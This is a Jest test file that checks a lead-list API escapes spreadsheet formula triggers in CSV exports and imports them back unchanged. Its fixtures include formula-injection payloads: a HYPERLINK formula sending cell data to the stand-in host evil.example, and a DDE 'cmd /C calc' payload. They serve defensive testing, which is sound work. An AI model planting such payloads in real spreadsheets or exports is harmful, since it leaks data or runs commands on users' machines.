/**
 * CSV export and formula injection (OWASP "CSV Injection"): a cell that starts with =, +, -, @,
 * tab or carriage return is written with a single quote before it, and quoted, so that a
 * spreadsheet reads it as text; the import takes the quote off again, so an export imports
 * back unchanged. E.164 phones start with '+': they are escaped like any cell (a spreadsheet
 * then keeps '+213550123456' as text instead of the number 213550123456).
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import request from 'supertest';
import { escapeFormula, unescapeFormula } from '../../platform/spreadsheet';
import { upsertCompanies, type CompanyInput } from '../../search';
import { importCompanies } from '../../search';
import { createTestContext, type TestContext } from '../../../test/helpers/app';

let ctx: TestContext;
let key: string;
const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'csv-formulas-test-'));
beforeAll(async () => {
  ctx = await createTestContext();
  key = (await ctx.account()).api_key;
});
afterAll(async () => {
  await ctx.close();
  fs.rmSync(tmp, { recursive: true, force: true });
});
const auth = () => ({ Authorization: `Bearer ${key}` });

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];

describe('escapeFormula / unescapeFormula', () => {
  test.each([
    ['=HYPERLINK("http://x","y")', `'=HYPERLINK("http://x","y")`],
    ['+213550123456', `'+213550123456`],
    ['-2+3', `'-2+3`],
    ['@SUM(A1)', `'@SUM(A1)`],
    ['\tcmd', `'\tcmd`],
    ['\r=1', `'\r=1`],
    [`'=already`, `''=already`],
    [`''-x`, `'''-x`],
    ['Numidia', 'Numidia'],
    [`'quoted name`, `'quoted name`],
    ['a=b', 'a=b'],
    ['', ''],
  ])('%j is written %j and read back', (value, cell) => {
    expect(escapeFormula(value)).toBe(cell);
    expect(unescapeFormula(cell)).toBe(value);
  });

  test('the round trip is exact for any text', () => {
    const alphabet = ["'", '=', '+', '-', '@', '\t', '\r', 'a', ' '];
    const all: string[] = [''];
    for (let len = 1; len <= 4; len++) for (const prefix of all.filter((s) => s.length === len - 1)) for (const c of alphabet) all.push(prefix + c);
    for (const v of all) {
      const cell = escapeFormula(v);
      expect([v, unescapeFormula(cell)]).toEqual([v, v]);
      expect([v, TRIGGERS.includes(cell[0] ?? '')]).toEqual([v, false]);
    }
  });
});

describe('GET /v1/lists/{id}/export', () => {
  const company = (nom: string, extra: Partial<CompanyInput> = {}): CompanyInput => ({
    nom, wilaya_code: 9, secteur_id: null, activite: null, email: null, telephone: null, score_qualite: 60, source: 'import', source_url: null, ...extra,
  });

  test('cells that would start a formula are written as text, quoted; the file imports back unchanged', async () => {
    const companies = [
      company('=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")', { activite: '@SUM(1+1)*cmd|" /C calc"!A0' }),
      company('+Numidia Formules', { telephone: '+213550123456' }),
      company('-Atlas- Formules', { activite: '-2+3' }),
      company("'=Tassili Formules", { email: 'contact@tassili.dz' }),
      company("'Oasis Formules", { activite: 'Texte, ordinaire' }),
    ];
    const written = await upsertCompanies(ctx.database.knex, companies);
    const list = await request(ctx.app).post('/v1/lists').set(auth()).send({ nom: 'Formules' }).expect(201);
    const ids = written.map((w) => w.id);
    await request(ctx.app).post(`/v1/lists/${list.body.id}/leads`).set(auth()).send({ entreprise_ids: ids.slice(1) }).expect(200);
    await request(ctx.app).post(`/v1/lists/${list.body.id}/leads`).set(auth()).send({ entreprise_id: ids[0], note: '\t=1+1\r\nsuite' }).expect(201);

    const res = await request(ctx.app).get(`/v1/lists/${list.body.id}/export`).set(auth()).buffer(true).parse((r, cb) => {
      let text = '';
      r.setEncoding('utf8');
      r.on('data', (c: string) => (text += c));
      r.on('end', () => cb(null, text));
    });
    expect(res.status).toBe(200);
    const csv = res.body as string;
    const rows = parse(csv, { bom: true, columns: true, relax_quotes: false }) as Record<string, string>[];
    // No cell of the file starts a formula.
    for (const row of rows) for (const [column, cell] of Object.entries(row)) expect([column, cell, TRIGGERS.includes(cell[0])]).toEqual([column, cell, false]);
    const byName = new Map(rows.map((r) => [r.nom, r]));
    expect(byName.get(`'=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")`)).toMatchObject({ activite: `'@SUM(1+1)*cmd|" /C calc"!A0`, note: `'\t=1+1\r\nsuite` });
    expect(byName.get(`'+Numidia Formules`)).toMatchObject({ telephone: `'+213550123456` });
    expect(byName.get(`'-Atlas- Formules`)).toMatchObject({ activite: `'-2+3` });
    expect(byName.get(`''=Tassili Formules`)).toMatchObject({ email: 'contact@tassili.dz' });
    expect(byName.get(`'Oasis Formules`)).toMatchObject({ activite: 'Texte, ordinaire' });
    // Escaped cells are quoted in the file itself.
    expect(csv).toContain(`"'+213550123456"`);
    expect(csv).toContain(`"'-Atlas- Formules"`);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Cliquez"")"`);

    // The file imports back: every company updates itself, unchanged.
    const before = await ctx.database.knex('companies').where({ wilaya_code: 9 }).orderBy('nom').select('id', 'nom', 'activite', 'email', 'telephone', 'score_qualite');
    const file = path.join(tmp, 'formules.csv');
    fs.writeFileSync(file, csv);
    const result = await importCompanies(ctx.database.knex, file);
    expect(result).toEqual({ imported: 0, updated: 5, rejected: [] });
    const after = await ctx.database.knex('companies').where({ wilaya_code: 9 }).orderBy('nom').select('id', 'nom', 'activite', 'email', 'telephone', 'score_qualite');
    expect(after).toEqual(before);
    expect(after.map((c) => c.nom).sort()).toEqual(companies.map((c) => c.nom).sort());
  });
});
